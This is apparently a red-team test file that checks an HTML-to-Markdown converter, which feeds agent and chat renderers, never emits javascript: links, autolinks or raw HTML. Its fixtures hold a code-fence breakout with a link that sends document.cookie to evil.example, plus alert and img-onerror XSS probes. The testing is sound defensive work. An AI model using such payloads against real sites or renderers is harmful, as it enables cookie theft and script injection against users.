import { describe, expect, it } from 'vitest';
import {
  allowedDestination,
  IN_ARTICLE,
  markdownCaptures,
  rendered,
  WHOLE_BODY,
} from '../helpers/markdownCaptures';

/**
 * Red team (round 5): docs/api.md 17.1 promises that "no page text ends a link or writes one" and that links go only
 * to http(s) and mailto. The Markdown is read here by a CommonMark parser (commonmark.js, the reference one), as an
 * agent's or a chat's renderer reads it: every link and image it finds, and every piece of raw HTML it passes on.
 */

const { markdownOf } = markdownCaptures();

describe('page text read as Markdown syntax', () => {
  // Turndown's fencedCodeBlock makes its fence longer than any run of backticks that starts a line of the code,
  // but CommonMark also closes a fence with a line of up to three spaces before its backticks: the code's " \`\`\`"
  // line ends the block, and the lines after it are raw Markdown, never escaped (code text is written as is).
  it.each([
    ['the whole body', WHOLE_BODY],
    ['an article', IN_ARTICLE],
  ] as const)('cannot close a code block and write a javascript: link after it, in %s', async (_, place) => {
    const markdown = await markdownOf(
      place(`<pre><code>let shown = 1;
 \`\`\`
[Continue](javascript:fetch('https://evil.example/?'+document.cookie))
</code></pre>`),
    );
    expect(markdown).toContain('let shown = 1;');
    expect(rendered(markdown).destinations.filter((d) => !allowedDestination(d))).toEqual([]);
  });

  // Turndown escapes brackets, backticks, stars and underscores in text, never '<': the page's visible text
  // "<javascript:alert(1)>" is a CommonMark autolink, and "<a href=...>" is raw HTML a renderer passes on. Both in
  // the whole body and inside an article Readability picks.
  it.each([
    ['the whole body', WHOLE_BODY],
    ['an article', IN_ARTICLE],
  ] as const)('cannot write an autolink or raw HTML with its text, in %s', async (_, place) => {
    const markdown = await markdownOf(
      place(`<p>Read on: &lt;javascript:alert(document.domain)&gt; or
        &lt;a href="javascript:alert(2)"&gt;Continue&lt;/a&gt; &lt;img src=x onerror=alert(3)&gt;</p>`),
    );
    expect(markdown).toContain('Read on');
    const { destinations, rawHtml } = rendered(markdown);
    expect(destinations.filter((d) => !allowedDestination(d))).toEqual([]);
    expect(rawHtml).toEqual([]);
  });
});
